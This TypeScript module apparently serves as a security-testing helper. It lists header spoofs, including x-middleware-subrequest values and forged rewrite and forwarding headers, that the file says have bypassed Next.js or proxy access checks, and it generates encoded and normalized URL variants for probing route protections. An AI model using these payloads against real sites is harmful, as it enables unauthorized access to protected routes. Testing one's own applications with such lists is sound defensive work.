/** Headers that have bypassed access checks of Next.js or of proxies in the past. */
export const headerSpoofs = [
  { "x-middleware-subrequest": "middleware" },
  { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" },
  { "x-middleware-subrequest": "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware" },
  { "x-middleware-rewrite": "/", "x-middleware-next": "1", "x-invoke-path": "/" },
  { "next-router-prefetch": "1", rsc: "1" },
  { rsc: "1", "next-router-segment-prefetch": "/_tree" },
  { "x-matched-path": "/", "x-nextjs-data": "1" },
  { "x-original-url": "/", "x-rewrite-url": "/", "x-forwarded-host": "evil.example" },
] as const;

/** Variants of a URL that a server or proxy might treat as the same URL. */
export const urlVariants = (url: string): string[] => {
  const [path = url, query = ""] = url.split("?");
  const tail = query ? `?${query}` : "";
  const upper = path.replace("/api/", "/API/");
  return [
    `${path}/${tail}`,
    path.replace("/api/", "/api//") + tail,
    `/${path}${tail}`,
    path.replace("/api/", "/api/./") + tail,
    path.replace("/api/", "/api/%2e/") + tail,
    path.replace("/api/", "/%61pi/") + tail,
    path.replace("/api/", "/api/api/") + tail,
    ...(upper === path ? [path.toUpperCase() + tail] : [upper + tail]),
    `${path}.rsc${tail}`,
    `${path}.json${tail}`,
    `${path}.segments/_tree.segment.rsc${tail}`,
    `${path}.segments/_full.segment.rsc${tail}`,
    `/_next/data/build${path}.json${tail}`,
    `${path};a=b${tail}`,
    `${path}%00${tail}`,
    `${path}%20${tail}`,
  ];
};
